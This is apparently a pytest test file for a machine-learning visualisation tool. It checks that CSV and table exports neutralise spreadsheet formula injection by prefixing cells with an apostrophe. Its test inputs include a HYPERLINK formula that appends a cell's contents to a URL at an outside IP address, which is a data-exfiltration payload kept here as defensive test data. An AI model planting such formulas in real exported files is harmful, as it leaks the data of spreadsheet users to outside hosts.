"""What strangers write into tables. Oracle: OWASP's list of what begins a formula, and `float`."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from rnnviz.explorer.text import files
from rnnviz.explorer.train import table
from rnnviz.models import tokens
from rnnviz.models.classifier import SequenceClassifier
from rnnviz.models.reader import read_text
from rnnviz.runs import downloads
from rnnviz.runs.store import RunStore
from rnnviz.safe import spreadsheets
from rnnviz.training.curves import Curves

FORMULAS = (
    '=HYPERLINK("http://192.0.2.7/?"&A1,"see")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
    "\n=1", " =1+1", "\u00a0=1", "\uff1d1+1", "-", "=", "--1", "+a",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert spreadsheets.cell(text) == f"'{text}"
    assert spreadsheets.cell(spreadsheets.cell(text)) == f"'{text}"  # and stays so


@pytest.mark.parametrize("text", ["", "a", "a=1", "1e-5", "-0.5", "+3", "-inf", "nan", "'x", "é-"])
def test_other_texts_and_numbers_stay(text: str) -> None:
    assert spreadsheets.cell(text) == text


def first_letters(data: str) -> set[str]:
    """What cells that are no numbers begin with."""
    found = set()
    for row in csv.reader(io.StringIO(data)):
        for value in row:
            try:
                float(value)
            except ValueError:
                found.add(value.lstrip(" ")[:1])
    return found


def test_no_cell_of_any_csv_is_a_formula(tmp_path: Path) -> None:
    text = "=HYPERLINK( @SUM +1+1 -1+1 =1 good"
    tokenizer = tokens.train([text, "a good film", "a bad film"], kind="word", size=60,
                             least_count=1)  # fmt: skip
    model = SequenceClassifier(
        cell="gru", input_size=4, hidden_size=3, num_layers=1, num_classes=2,
        labels=("=cmd", "@bad"), vocabulary_size=tokenizer.vocabulary_size,
    ).eval()  # fmt: skip
    encoded = tokenizer.encode(text)
    reading = read_text(model, encoded, name="x")
    import torch

    inputs = torch.from_numpy(encoded.ids)[None]
    trace = model.trace(inputs, prefix_ends=tuple(range(1, len(encoded.ids) + 1))).recurrent
    files.save_csv(trace, encoded, reading, tmp_path / "a.csv")
    written = (tmp_path / "a.csv").read_text(encoding="utf-8")
    assert "'=" in written and "'@bad" in written and "'=cmd" in written
    assert not first_letters(written) & set("=+-@\t\r")

    marks = ['{"event": "training-warned", "step": 3, "kind": "=HYPERLINK(1)"}'] * 2
    drawn = downloads.curves_csv(Curves.from_lines(marks))
    assert "'=HYPERLINK" in drawn and not first_letters(drawn) & set("=+-@")


def test_the_table_of_runs_can_be_saved(tmp_path: Path) -> None:
    store = RunStore(tmp_path)
    plan = {"task": "=HYPERLINK(1)", "cell": "@x", "hidden_size": 3}
    run = store.create(plan, "me", "=HYPERLINK(1)", state="uploaded")
    columns = table.table([run])
    for name in ("name", "task", "cell"):
        assert columns[name][0].startswith("'")
